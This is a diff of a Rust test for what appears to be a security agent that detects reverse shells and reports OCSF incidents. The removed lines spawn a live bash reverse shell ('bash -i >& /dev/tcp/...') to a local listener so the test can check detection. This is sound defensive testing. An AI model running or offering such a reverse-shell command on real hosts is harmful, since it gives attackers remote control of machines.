@@ -6,7 +6,7 @@
 use crate::agent::Agent;
 use crate::detect_shells::is_incident_for;
 use crate::http_sink::{Receiver, connections, wait_until};
-use crate::util::{KillOnDrop, ScratchDir, prerequisites};
+use crate::util::{KillOnDrop, ScratchDir, bash_reverse_shell, prerequisites};
 use serde_json::Value;
 use std::collections::HashMap;
 use std::io::Write;
@@ -72,17 +72,7 @@ fn every_event_class_projects_to_a_valid_ocsf_document() {
         Command::new("bash").args(["-c", "sleep 0.6; exec sleep 3"]).spawn().unwrap(),
     );
     // A reverse shell: an incident opened, then resolved when it ends.
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let mut shell = KillOnDrop::new(
-        Command::new("bash")
-            .args(["-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
-            .stdin(Stdio::null())
-            .stderr(Stdio::null())
-            .spawn()
-            .unwrap(),
-    );
-    let (peer, _) = listener.accept().unwrap();
+    let (mut shell, peer, port) = bash_reverse_shell();
     // The agent sees the whole host, other tests' shells included: look only at this one's.
     let ours = |e: &Value, action: &str| e["event"]["action"] == action && is_incident_for(e, port);
     agent.wait_for("incident_opened", |e| ours(e, "incident_opened"));
